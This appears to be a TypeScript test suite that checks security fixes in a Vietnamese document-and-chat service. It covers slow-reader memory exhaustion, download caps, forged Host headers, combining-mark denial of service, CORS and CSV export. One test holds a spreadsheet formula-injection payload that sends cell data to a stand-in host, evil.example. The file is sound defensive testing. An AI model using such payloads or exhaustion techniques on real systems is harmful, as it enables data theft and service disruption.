/**
 * Findings of the attack-minded test of the running service (issue 15, items 3–7 and 9) and the
 * page for a citation of a deleted document (issue 14), each through the real service on
 * loopback: what an anonymous client could do before, and what holds now. docs/security.md has
 * the findings and the figures; the browser checks are in test/web/removed-document.e2e.test.ts.
 */
import { serve, type ServerType } from '@hono/node-server';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { connect, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config.js';
import { createApp } from '../../src/server/create-app.js';
import { createLogger } from '../../src/server/logger.js';
import { openService } from '../../src/server/open-service.js';
import type { AppDeps } from '../../src/server/app-deps.js';
import { main as cliMain } from '../../src/cli/main.js';
import { SqliteStore } from '../../src/store/index.js';
import { makePaddedPdf, makeStackedMarksText, makeVietnamesePdf } from '../support/make-fixtures.js';
import { mountSmallDisk, smallDiskAvailable, unmountAllSmallDisks } from '../support/small-disk.js';
import { startService, writeSmallCorpus, type RunningService } from '../support/start-service.js';

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const MiB = 1024 * 1024;
const json = { 'content-type': 'application/json' };
const lms = 'https://lms.example.edu.vn';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const sha = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

async function upload(svc: RunningService, files: Array<{ name: string; bytes: Uint8Array | string; type?: string }>) {
  const form = new FormData();
  for (const f of files)
    form.append(
      'files',
      new Blob([typeof f.bytes === 'string' ? f.bytes : new Uint8Array(f.bytes)], { type: f.type ?? 'application/octet-stream' }),
      f.name,
    );
  const res = await svc.admin('/documents', { method: 'POST', body: form });
  return { status: res.status, body: (await res.json()) as any };
}

const idOf = async (svc: RunningService, fileName: string) =>
  (await svc.deps.engine.store.listDocuments()).find((d) => d.fileName === fileName)!.id;

/** A raw GET that reads its first bytes (the status line) and then nothing: a slow reader at its slowest. */
function stalledGet(baseURL: string, path: string): Promise<{ socket: Socket; status: Promise<number> }> {
  const { port } = new URL(baseURL);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), '127.0.0.1', () => {
      socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`);
      const status = new Promise<number>((done) =>
        socket.once('data', (chunk: Buffer) => {
          socket.pause();
          done(Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 0));
        }),
      );
      resolve({ socket, status });
    });
    socket.on('error', reject);
  });
}

/** A request with a Host header of our choosing (fetch would set its own). */
function getWithHost(baseURL: string, path: string, host: string): Promise<{ status: number; body: string }> {
  const { port } = new URL(baseURL);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port: Number(port), path, headers: { host } }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode!, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('GET /docs/:id streams sources with bounded memory per connection (issue 15 item 3)', () => {
  let svc: RunningService;
  let pdf: Uint8Array;
  let id: string;
  beforeAll(async () => {
    svc = await startService({ RATE_LIMIT_PER_MINUTE: '10000' });
    // As large as a scanned textbook: larger than what the kernel's socket buffers absorb.
    pdf = makePaddedPdf(await makeVietnamesePdf(), 24 * MiB);
    const added = await upload(svc, [{ name: 'giao-trinh-day.pdf', bytes: pdf, type: 'application/pdf' }]);
    expect(added.body.results[0].status).toBe('added');
    id = await idOf(svc, 'giao-trinh-day.pdf');
  }, 60_000);
  afterAll(() => svc.close());

  it('sends the stored bytes exactly, whole and in ranges, with a validator', async () => {
    const whole = await fetch(`${svc.baseURL}/docs/${id}`);
    expect(whole.status).toBe(200);
    expect(whole.headers.get('content-length')).toBe(String(pdf.length));
    expect(whole.headers.get('accept-ranges')).toBe('bytes');
    expect(sha(new Uint8Array(await whole.arrayBuffer()))).toBe(sha(pdf));
    const etag = whole.headers.get('etag')!;
    expect((await fetch(`${svc.baseURL}/docs/${id}`, { headers: { 'if-none-match': etag } })).status).toBe(304);

    // Across a part boundary (parts are 64 KB), from the end, and past it.
    const cases: Array<[string, number, number]> = [
      ['bytes=65530-65545', 65530, 65546],
      ['bytes=0-0', 0, 1],
      [`bytes=-100`, pdf.length - 100, pdf.length],
      [`bytes=${pdf.length - 10}-`, pdf.length - 10, pdf.length],
    ];
    for (const [range, start, end] of cases) {
      const res = await fetch(`${svc.baseURL}/docs/${id}`, { headers: { range } });
      expect(res.status, range).toBe(206);
      expect(res.headers.get('content-range'), range).toBe(`bytes ${start}-${end - 1}/${pdf.length}`);
      expect(Buffer.from(await res.arrayBuffer()).equals(Buffer.from(pdf.subarray(start, end))), range).toBe(true);
    }
    const past = await fetch(`${svc.baseURL}/docs/${id}`, { headers: { range: `bytes=${pdf.length}-` } });
    expect(past.status).toBe(416);
    expect(past.headers.get('content-range')).toBe(`bytes */${pdf.length}`);
    // An If-Range for another version gets the whole file.
    const full = await fetch(`${svc.baseURL}/docs/${id}`, { headers: { range: 'bytes=0-9', 'if-range': '"other"' } });
    expect(full.status).toBe(200);
    await full.body!.cancel();
  });

  it('ends a download whose document is replaced under it, rather than splicing two versions', async () => {
    const res = await fetch(`${svc.baseURL}/docs/${id}`);
    const reader = res.body!.getReader();
    const received: Uint8Array[] = [];
    received.push((await reader.read()).value!);
    const next = makePaddedPdf(await makeVietnamesePdf(), 24 * MiB);
    expect((await upload(svc, [{ name: 'giao-trinh-day.pdf', bytes: next, type: 'application/pdf' }])).body.results[0].status).toBe(
      'replaced',
    );
    let error: unknown;
    try {
      for (let r = await reader.read(); !r.done; r = await reader.read()) received.push(r.value);
    } catch (e) {
      error = e;
    }
    const got = Buffer.concat(received);
    expect(error).toBeDefined(); // cut short: fewer bytes than its Content-Length
    expect(got.length).toBeLessThan(pdf.length);
    expect(got.equals(Buffer.from(pdf.subarray(0, got.length)))).toBe(true); // all of it from the old version
    expect(svc.logs.join('')).toContain('while being sent: connection cut');
    pdf = next; // for the tests below
  }, 60_000);

  it('holds a few parts per stalled reader, not a copy of the file, and lets one address hold at most 6 downloads', async () => {
    const heldBuffers = () => (gc(), gc(), process.memoryUsage().arrayBuffers);
    await sleep(200);
    const before = heldBuffers();
    const readers: Array<{ socket: Socket; status: Promise<number> }> = [];
    try {
      for (let i = 0; i < 8; i++) readers.push(await stalledGet(svc.baseURL, `/docs/${id}`));
      await sleep(1500); // the server writes until the socket buffers are full
      const held = heldBuffers() - before;
      // Before: each stalled reader kept its own 24 MB copy (over 140 MB for six).
      expect(held).toBeLessThan(6 * MiB);
      const statuses = await Promise.all(readers.map((r) => r.status));
      expect(statuses.filter((s) => s === 200)).toHaveLength(6);
      expect(statuses.filter((s) => s === 429)).toHaveLength(2);
    } finally {
      for (const r of readers) r.socket.destroy();
    }
    // Readers that went away gave their places back.
    await expect
      .poll(async () => (await fetch(`${svc.baseURL}/docs/${id}`, { headers: { range: 'bytes=0-3' } })).status, { timeout: 5000 })
      .toBe(206);
    const all = await Promise.all(Array.from({ length: 6 }, () => fetch(`${svc.baseURL}/docs/${id}`, { headers: { range: 'bytes=0-3' } })));
    expect(all.map((r) => r.status)).toEqual(Array(6).fill(206));
  }, 30_000);
});

describe('GET /docs/:id renders a non-PDF source once per version (issue 15 item 4)', () => {
  let svc: RunningService;
  beforeAll(async () => {
    svc = await startService({ RATE_LIMIT_PER_MINUTE: '10000' });
  });
  afterAll(() => svc.close());

  const renders = async () =>
    Number(/^trogiang_document_renders_total (\d+)/m.exec(await (await fetch(`${svc.baseURL}/metrics`)).text())?.[1]);
  const parts = (hash: string) =>
    (
      (svc.deps.engine.store as SqliteStore).db
        .prepare('SELECT kind, count(*) AS n FROM blob_parts WHERE hash = ? GROUP BY kind ORDER BY kind')
        .all(hash) as Array<{ kind: string; n: number }>
    ).map((r) => `${r.kind}:${r.n}`);

  it('serves concurrent and later reads from one stored rendering, and renders again only a new version', async () => {
    const lesson = (n: number) =>
      `# Nội quy phòng máy\n\n## Giờ mở cửa\n\nPhòng máy mở cửa lúc ${n} giờ sáng.\n\n${Array.from({ length: 3000 }, (_, i) => `Đoạn ${i}: học viên giữ gìn máy tính số ${i}.`).join('\n\n')}\n`;
    expect((await upload(svc, [{ name: 'noi-quy.md', bytes: lesson(7), type: 'text/markdown' }])).body.results[0].status).toBe('added');
    const id = await idOf(svc, 'noi-quy.md');
    const first = await renders();
    const pages = await Promise.all(Array.from({ length: 8 }, () => fetch(`${svc.baseURL}/docs/${id}`)));
    const texts = await Promise.all(pages.map((p) => p.text()));
    expect(new Set(texts).size).toBe(1);
    expect(texts[0]).toContain('<h2 id="gio-mo-cua">Giờ mở cửa</h2>');
    expect(texts[0]).toContain('mở cửa lúc 7 giờ');
    expect(pages[0]!.headers.get('content-length')).toBe(String(Buffer.byteLength(texts[0]!)));
    for (let i = 0; i < 4; i++) expect(await (await fetch(`${svc.baseURL}/docs/${id}`)).text()).toBe(texts[0]);
    // Twelve reads, one rendering (before: one per read, 2.4 s each for a 10 MB Markdown).
    expect((await renders()) - first).toBe(1);
    const v1 = (await svc.deps.engine.store.getDocument(id))!.contentHash;
    expect(parts(v1)).toEqual(['page-v1-markdown:3', 'source:3']);

    // A new version is rendered on its next read; the old one's parts are gone with it.
    expect((await upload(svc, [{ name: 'noi-quy.md', bytes: lesson(8), type: 'text/markdown' }])).body.results[0].status).toBe('replaced');
    const v2 = (await svc.deps.engine.store.getDocument(id))!.contentHash;
    expect(parts(v1)).toEqual([]);
    expect(await (await fetch(`${svc.baseURL}/docs/${id}`)).text()).toContain('mở cửa lúc 8 giờ');
    expect((await renders()) - first).toBe(2);
    expect((await svc.admin(`/documents/${id}`, { method: 'DELETE' })).status).toBe(200);
    expect(parts(v2)).toEqual([]);
  });

  it('rate-limits /docs per address at the per-address cap (a room behind one address shares it), with Retry-After', async () => {
    const limited = await startService({ RATE_LIMIT_PER_MINUTE: '3', RATE_LIMIT_PER_IP_PER_MINUTE: '30' });
    try {
      const id = (await limited.deps.engine.store.listDocuments()).find((d) => d.format !== 'pdf')!.id;
      const statuses: number[] = [];
      for (let i = 0; i < 12; i++) statuses.push((await fetch(`${limited.baseURL}/docs/${id}`)).status);
      expect(statuses.slice(0, 10)).toEqual(Array(10).fill(200));
      expect(statuses.slice(10)).toEqual([429, 429]);
      const refused = await fetch(`${limited.baseURL}/docs/${id}`);
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect((await refused.json()).error.code).toBe('rate_limited');
    } finally {
      await limited.close();
    }
  });
});

describe('combining marks (issue 15 item 5)', () => {
  it('refuses a file with a pathological run of combining marks at upload, at once and changing nothing; ordinary stacked marks are kept', async () => {
    const svc = await startService({ RATE_LIMIT_PER_MINUTE: '10000' });
    try {
      const before = (await svc.deps.engine.store.listDocuments()).length;
      const refused = await upload(svc, [{ name: 'dau-chong.md', bytes: makeStackedMarksText(), type: 'text/markdown' }]);
      expect(refused.status).toBe(422);
      const result = refused.body.error.results?.[0] ?? refused.body.results?.[0];
      expect(result).toMatchObject({ status: 'failed', code: 'too_many_combining_marks' });
      expect(result.message).toMatch(/120,000 stacked accent marks \(after "# Bài học Học phí là a"\)/);
      expect(result.messageVi).toMatch(/120\.000 dấu chồng lên nhau/);
      expect(await svc.deps.engine.store.listDocuments()).toHaveLength(before);
      // (Before, it was stored, after minutes of NFC for a 2 MB file: evals/perf/normalize-linear.ts.)

      // Decomposed Vietnamese (two marks per letter) and a modest run of 12 marks are ordinary text.
      const text = `# Ghi chú\n\n${'Học phí lớp tối là 450.000 đồng.'.normalize('NFD')} Chữ trang trí e${'\u0301\u0323'.repeat(6)}.\n`;
      const added = await upload(svc, [{ name: 'ghi-chu.md', bytes: text, type: 'text/markdown' }]);
      expect(added.body.results[0].status).toBe('added');
      const page = await (await fetch(`${svc.baseURL}/docs/${await idOf(svc, 'ghi-chu.md')}`)).text();
      expect(page).toContain('Học phí lớp tối là 450.000 đồng.');
    } finally {
      await svc.close();
    }
  }, 60_000);
});

describe('GET /demo and the Host header (issue 15 item 6)', () => {
  it('never stores an origin taken from a request: forged hosts change nothing, and an invalid Host is a 400', async () => {
    const svc = await startService({ PUBLIC_URL: 'http://tro-giang.example:8080' });
    try {
      const forged = [];
      for (let i = 0; i < 20; i++) forged.push((await getWithHost(svc.baseURL, '/demo', `evil${i}.example`)).status);
      expect(forged).toEqual(Array(20).fill(200));
      const demo = (await svc.deps.engine.store.siteKeys.list()).filter((k) => k.title === 'Demo');
      expect(demo).toHaveLength(1);
      expect(demo[0]!.allowedOrigins).toEqual(['http://tro-giang.example:8080']);

      // Hosts the URL parser accepts get our coded 400; the others never reach the app (Node's or the adapter's 400).
      for (const host of ['a;b', "x'y", 'a"b', 'a,b', 'a=b.example']) {
        const res = await getWithHost(svc.baseURL, '/demo', host);
        expect(res.status, host).toBe(400);
        expect(JSON.parse(res.body).error, host).toMatchObject({ code: 'bad_host', messageVi: expect.stringContaining('Host') });
      }
      for (const host of ['a b', 'evil.example/path', '[::1', 'a:99999'])
        expect((await getWithHost(svc.baseURL, '/demo', host)).status, host).toBe(400);
      expect((await svc.deps.engine.store.siteKeys.list()).find((k) => k.title === 'Demo')!.allowedOrigins).toEqual([
        'http://tro-giang.example:8080',
      ]);
      expect(svc.logs.join('')).not.toMatch(/"status":500/);
    } finally {
      await svc.close();
    }
  });

  it('without PUBLIC_URL the demo key gets the address the server listens on, never one from a request, and the widget works at any address of this server', async () => {
    const svc = await startService();
    try {
      // The first request to /demo is a forged one: before, its Host became the key's origin.
      await getWithHost(svc.baseURL, '/demo', 'evil.example');
      const page = await (await fetch(`${svc.baseURL}/demo`)).text();
      const key = /tg_pub_[\w-]+/.exec(page)![0];
      expect((await svc.deps.engine.store.siteKeys.get(key))!.allowedOrigins).toEqual([svc.baseURL]);
      // Reached at another address of the same server (localhost instead of 127.0.0.1).
      const { port } = new URL(svc.baseURL);
      const other = await getWithHost(
        svc.baseURL,
        `/embed?site=${key}&parent=${encodeURIComponent(`http://localhost:${port}`)}`,
        `localhost:${port}`,
      );
      expect(other.status).toBe(200);
      expect((await svc.deps.engine.store.siteKeys.get(key))!.allowedOrigins).toEqual([svc.baseURL]);
      // The chat page for the demo: framable by this server's own pages, whatever address they use.
      const embed = await fetch(`${svc.baseURL}/embed?site=${key}&parent=${encodeURIComponent(svc.baseURL)}&widget=1`);
      expect(embed.status).toBe(200);
      expect(embed.headers.get('content-security-policy')).toMatch(/frame-ancestors 'self' http:\/\/127\.0\.0\.1:\d+(;|$)/);
      // A page elsewhere is still refused.
      expect((await fetch(`${svc.baseURL}/embed?site=${key}&parent=${encodeURIComponent('http://evil.example')}`)).status).toBe(403);
    } finally {
      await svc.close();
    }
  });
});

/** The real service over a data folder of our choosing, to restart it on the same one. */
async function serviceOn(dataDir: string, corpusDir: string): Promise<{ baseURL: string; deps: AppDeps; close: () => Promise<void> }> {
  const config = loadConfig({ DATA_DIR: dataDir, CORPUS_DIR: corpusDir, ADMIN_TOKEN: 'test-admin-token-0123456789', LOG_LEVEL: 'warn' });
  const logger = createLogger(config.logLevel, new Writable({ write: (_c, _e, done) => done() }));
  const { deps } = await openService(config, logger);
  const server: ServerType = await new Promise((resolve) => {
    const s = serve({ fetch: createApp(deps).fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s));
  });
  return {
    baseURL: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    deps,
    close: async () => {
      await new Promise<void>((resolve) => server.close(() => resolve()));
      await deps.engine.close();
    },
  };
}

describe("the sample corpus is ingested only on a data folder's first start (issue 15 item 7)", () => {
  it('does not come back after every document was deleted and the service restarted', async () => {
    const root = mkdtempSync(join(tmpdir(), 'trogiang-first-start-'));
    try {
      const corpus = join(root, 'corpus');
      await writeSmallCorpus(corpus);
      let svc = await serviceOn(join(root, 'data'), corpus);
      const docs = await svc.deps.engine.store.listDocuments();
      expect(docs).toHaveLength(2);
      for (const d of docs) {
        const res = await fetch(`${svc.baseURL}/api/admin/documents/${d.id}`, {
          method: 'DELETE',
          headers: { authorization: 'Bearer test-admin-token-0123456789' },
        });
        expect(res.status).toBe(200);
      }
      await svc.close();

      svc = await serviceOn(join(root, 'data'), corpus);
      try {
        expect(await svc.deps.engine.store.listDocuments()).toEqual([]);
        const search = await (await fetch(`${svc.baseURL}/api/search?q=hoc+phi`)).json();
        expect(search.results).toEqual([]);
      } finally {
        await svc.close();
      }

      // Nor by the CLI's first-run ingest (`ask` and `search` used to refill an empty store too).
      let err = '';
      const code = await cliMain(
        ['search', 'hoc phi'],
        { out: () => {}, err: (t) => (err += t) },
        { DATA_DIR: join(root, 'data'), CORPUS_DIR: corpus },
      );
      expect(code).toBe(0);
      expect(err).not.toMatch(/first run, ingesting/);
      const reopened = new SqliteStore(join(root, 'data', 'trogiang.db'));
      expect(await reopened.listDocuments()).toEqual([]);
      await reopened.close();

      // A folder written before the marker existed, emptied by its center: not refilled either.
      (await import('better-sqlite3'))
        .default(join(root, 'data', 'trogiang.db'))
        .prepare("DELETE FROM settings WHERE key = 'corpus.firstStart'")
        .run();
      svc = await serviceOn(join(root, 'data'), corpus);
      try {
        expect(await svc.deps.engine.store.listDocuments()).toEqual([]);
      } finally {
        await svc.close();
      }
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('low findings (issue 15 item 9)', () => {
  let svc: RunningService;
  let key: string;
  beforeAll(async () => {
    svc = await startService({ RATE_LIMIT_PER_MINUTE: '10000' });
    const res = await svc.admin('/site-keys', {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ title: 'LMS', allowedOrigins: [lms] }),
    });
    key = (await res.json()).siteKey.key;
  });
  afterAll(async () => {
    await svc.close();
    unmountAllSmallDisks();
  });

  it.skipIf(!smallDiskAvailable())(
    'a document can be deleted on a full disk (a real tmpfs), which makes room for the next upload',
    async () => {
      const disk = mountSmallDisk(64 * MiB);
      let full: RunningService | undefined;
      try {
        full = await startService({ DATA_DIR: join(disk.path, 'data') });
        const lesson = (n: number) =>
          `# Đề cương ${n}\n\n${Array.from({ length: 2500 }, (_, i) => `Tuần ${i}: ôn chủ đề ${i * 7 + n}, nộp báo cáo mã ${(i * 7919 + n) % 100003}.`).join('\n\n')}\n`;
        expect((await upload(full, [{ name: 'de-cuong-1.md', bytes: lesson(1), type: 'text/markdown' }])).status).toBe(200);
        (full.deps.engine.store as SqliteStore).db.pragma('wal_checkpoint(TRUNCATE)');
        disk.usedPlus(32 * 1024);
        expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).status).toBe(507);

        const id = await idOf(full, 'de-cuong-1.md');
        const deleted = await full.admin(`/documents/${id}`, { method: 'DELETE' });
        expect(deleted.status).toBe(200); // 507 before: nothing could be deleted
        expect(await full.deps.engine.store.getDocument(id)).toBeUndefined();
        expect(
          (await fetch(`${full.baseURL}/api/search?q=${encodeURIComponent('đề cương chủ đề')}`).then((r) => r.json())).results.filter(
            (r: any) => r.documentId === id,
          ),
        ).toEqual([]);
        // The room it made takes the next upload, on the same full disk.
        expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).body.results[0].status).toBe(
          'added',
        );
      } finally {
        await full?.close();
        disk.unmount();
      }
    },
    60_000,
  );

  it('the questions CSV keeps a question with ";" in one cell, and no ";"-separated piece of it reads as a formula', async () => {
    const question = `hoc phi;=HYPERLINK("http://evil.example/?"&A1;"bấm");@SUM(1)`;
    const chat = await fetch(`${svc.baseURL}/api/chat`, {
      method: 'POST',
      headers: { ...json, accept: 'application/json' },
      body: JSON.stringify({ message: question }),
    });
    expect(chat.status).toBe(200);
    const csv = await (await svc.admin('/questions.csv')).text();
    const line = csv.split('\r\n').find((l) => l.includes('hoc phi'))!;
    expect(line).toContain(`"hoc phi;'=HYPERLINK(""http://evil.example/?""&A1;""bấm"");'@SUM(1)"`);
    // Excel set to a ";" list separator, which ignores quotes that do not open a field.
    for (const piece of line.split(';')) expect(piece, piece).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("answers a browser's CORS preflight (which carries no x-site-key) for pages some key allows, and checks the key on the request itself", async () => {
    const preflight = (origin: string) =>
      fetch(`${svc.baseURL}/api/chat`, {
        method: 'OPTIONS',
        headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type, x-site-key' },
      });
    const ok = await preflight(lms);
    expect(ok.status).toBe(204);
    expect(ok.headers.get('access-control-allow-origin')).toBe(lms);
    expect(ok.headers.get('access-control-allow-headers')).toContain('x-site-key');
    const evil = await preflight('https://evil.example');
    expect(evil.status).toBe(403);
    expect(evil.headers.get('access-control-allow-origin')).toBeNull();

    const ask = (siteKey: string | undefined) =>
      fetch(`${svc.baseURL}/api/chat`, {
        method: 'POST',
        headers: { ...json, accept: 'application/json', origin: lms, ...(siteKey ? { 'x-site-key': siteKey } : {}) },
        body: JSON.stringify({ message: 'hoc phi' }),
      });
    expect((await ask(key)).status).toBe(200);
    const other = await svc.admin('/site-keys', {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ title: 'Khác', allowedOrigins: ['https://other.example'] }),
    });
    expect((await ask((await other.json()).siteKey.key)).status).toBe(403);
    expect((await ask(undefined)).status).toBe(403);
  });
});

describe('a citation of a deleted document (issue 14)', () => {
  it("opens a page saying the document was removed, in the learner's language, with a way back", async () => {
    const svc = await startService();
    try {
      const id = (await svc.deps.engine.store.listDocuments()).find((d) => d.format !== 'pdf')!.id;
      expect((await svc.admin(`/documents/${id}`, { method: 'DELETE' })).status).toBe(200);
      const open = (query: string, headers: Record<string, string> = {}) =>
        fetch(`${svc.baseURL}/docs/${id}${query}`, { headers: { accept: 'text/html,application/xhtml+xml,*/*;q=0.8', ...headers } });

      const vi = await open('', { referer: `${svc.baseURL}/embed?site=x&widget=1` });
      expect(vi.status).toBe(404);
      expect(vi.headers.get('content-type')).toMatch(/^text\/html/);
      const page = await vi.text();
      expect(page).toContain('<html lang="vi">');
      expect(page).toContain('Tài liệu không còn nữa');
      expect(page).toContain('href="/embed?site=x&amp;widget=1"');
      const en = await (await open('', { 'accept-language': 'en-US,en;q=0.9,vi;q=0.5' })).text();
      expect(en).toContain('This document is no longer available');
      expect(en).not.toContain('id="back"'); // no referer: no link, the page says to close the tab
      expect(await (await open('?lang=en', { 'accept-language': 'vi' })).text()).toContain('<html lang="en">');
      expect(await (await open('?lang=vi', { 'accept-language': 'en' })).text()).toContain('<html lang="vi">');
      // A link elsewhere is not offered as the way back.
      expect(await (await open('', { referer: 'https://evil.example/' })).text()).not.toContain('evil.example');
      // API clients asking for JSON still get the coded error.
      const api = await fetch(`${svc.baseURL}/docs/${id}`, { headers: { accept: 'application/json' } });
      expect((await api.json()).error.code).toBe('not_found');
    } finally {
      await svc.close();
    }
  });
});
